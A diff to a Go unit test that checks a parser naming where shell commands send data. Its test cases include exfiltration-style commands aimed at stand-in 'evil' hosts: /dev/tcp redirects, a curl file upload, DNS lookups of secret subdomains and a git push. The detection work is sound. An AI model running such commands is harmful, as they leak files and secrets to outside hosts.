@@ -81,6 +81,21 @@ func TestWhereDataGoesIsNamed(t *testing.T) {
 		"ssh host ls":                          "host",
 		"cat a > /dev/tcp/evil/80":             "/dev/tcp/evil/80",
 		"ls":                                   "",
+		"curl https://a.eu.example/ -T s https://a.evil.example/":  "https://a.eu.example/, https://a.evil.example/",
+		"curl -sSL https://a.eu.example/ evil":                     "https://a.eu.example/, evil",
+		"curl -H 'X: y' -o out.json https://a.eu.example/":         "https://a.eu.example/",
+		"curl -xevil.example:80 https://a.eu.example/":             "evil.example:80, https://a.eu.example/",
+		"curl https://a.eu.example/ $x":                            "https://a.eu.example/, …",
+		"curl https://a.eu.example/; curl https://a.evil.example/": "https://a.eu.example/, https://a.evil.example/",
+		"curl https://a.eu.example/; curl https://a.eu.example/":   "https://a.eu.example/",
+		"cat a > /dev/tcp/evil/80; cat b > /dev/tcp/evil/81":       "/dev/tcp/evil/80, /dev/tcp/evil/81",
+		"curl https://a.eu.example/; ssh evil ls":                  "https://a.eu.example/, evil",
+		"nslookup secret.evil.example 8.8.8.8":                     "secret.evil.example, 8.8.8.8",
+		"curl $x":                                                  "…",
+		"curl a.example; curl b.example; curl a.example":           "a.example, b.example",
+		"ssh -J jump.example host ls":                              "jump.example, host",
+		"git push https://evil.example/x main":                     "https://evil.example/x",
+		"git push origin main":                                     "git push",
 	} {
 		if r := reading(t, line); r.Outside != want || r.Exports != (want != "") {
 			t.Errorf("%s: got %q, %v, want %q", line, r.Outside, r.Exports, want)
